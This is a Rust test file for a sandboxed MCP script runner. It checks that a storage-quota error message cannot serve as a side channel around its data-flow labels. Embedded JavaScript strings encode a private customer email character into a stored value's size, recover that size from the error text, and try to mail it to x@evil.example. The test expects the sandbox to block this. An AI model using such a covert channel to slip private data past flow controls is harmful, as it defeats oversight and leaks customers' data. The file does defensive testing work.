//! The store's quota message is not a channel around the labels (issue 43 item 6): with
//! `flow_scope: "execution"`, one execution reads private data and stores a value whose size
//! encodes it; a later execution, with no labels, learns that size from `store()`'s
//! `LIMIT_EXCEEDED` message ("would hold N bytes") without `load()` and mails it out. A refusal
//! derived from the session's values now carries their labels, so the mail is refused. Played
//! through `run` (the real CLI) against the rmcp fixture server, whose mailer logs what it got.

use crate::common::{bin, cli_run_script};
use serde_json::{json, Value};
use std::path::Path;

fn run(dir: &Path, code: &str) -> Value {
    let script = dir.join("script.js");
    std::fs::write(&script, code).unwrap();
    let r = cli_run_script(
        &["--session", "s"],
        &dir.join("mcp.json"),
        &dir.join("state.db"),
        &script,
    );
    serde_json::from_slice(&r.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&r.stderr)))
}

#[test]
fn a_quota_refusal_carries_the_labels_of_the_values_it_counts() {
    let dir = tempfile::tempdir().unwrap();
    let fixture = json!({"command": bin("fixture-mcp-server")});
    let mail = json!({
        "command": bin("fixture-mcp-server"),
        "env": {"FIXTURE_MAIL_LOG": dir.path().join("mail.log")}, "files": {"write": [dir.path()]},
    });
    let body = json!({
        "mcpServers": {"crm": fixture, "mail": mail},
        "sandbox": {
            "labels": {"crm:get_customer": ["private"], "mail:send_mail": ["egress"]},
            "flows": [{"after": ["private"], "deny": ["egress"], "name": "no-exfiltration"}],
            "flow_scope": "execution",
            "session": {"max_bytes": 10000},
        },
    });
    std::fs::write(dir.path().join("mcp.json"), body.to_string()).unwrap();
    // 1: reads the record and stores a value as long as the address's first character code.
    let first = run(
        dir.path(),
        "const c = await mcp.crm.get_customer({id: 7});
         await store('pad', 'x'.repeat(c.email.charCodeAt(0))); return 'kept'",
    );
    assert_eq!(first["result"], "kept", "{first}");
    // 2: no load(); the refusal's numbers tell the stored size, then the mail goes out.
    let second = run(
        dir.path(),
        "let n = 0;
         try { await store('probe', 'y'.repeat(9990)) }
         catch (e) { n = Number(/would hold (\\d+) bytes/.exec(e.message)[1]) }
         try { await mcp.mail.send_mail({to: ['x@evil.example'], subject: String(n)}); return ['sent', n] }
         catch (e) { return [e.code, e.message, n] }",
    );
    let result = &second["result"];
    assert_eq!(result[0], "PERMISSION_DENIED", "{second}");
    assert_eq!(
        result[1],
        "mail:send_mail is egress; this execution read private data from crm:get_customer in an earlier execution of this session (config flow rule \"no-exfiltration\"); the call was not forwarded"
    );
    assert!(
        result[2].as_u64().unwrap() > 9990,
        "the refusal said {}",
        result[2]
    );
    assert!(
        std::fs::read_to_string(dir.path().join("mail.log"))
            .unwrap_or_default()
            .is_empty(),
        "the mailer received nothing"
    );
    let traces = second["traces"].as_array().unwrap();
    let store = traces.iter().find(|t| t["type"] == "state_store").unwrap();
    assert_eq!(store["error"]["code"], "LIMIT_EXCEEDED");
    let added: Vec<&Value> = traces
        .iter()
        .filter(|t| t["type"] == "label_added")
        .collect();
    assert_eq!(added.len(), 1, "{second}");
    assert_eq!(added[0]["label"], "private");
    assert_eq!(added[0]["rule"], "earlier");
    let decision = traces
        .iter()
        .find(|t| t["type"] == "flow_decision")
        .unwrap();
    assert_eq!(decision["decision"], "deny");
    assert_eq!(decision["tool"], "mail:send_mail");
    // A refusal of the value's own size tells nothing of the others: no label.
    let third = run(
        dir.path(),
        "try { await store('big', 'z'.repeat(2000000)) } catch (e) { return e.code }",
    );
    assert_eq!(third["result"], "LIMIT_EXCEEDED", "{third}");
    assert!(
        !third["traces"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["type"] == "label_added"),
        "{third}"
    );
}
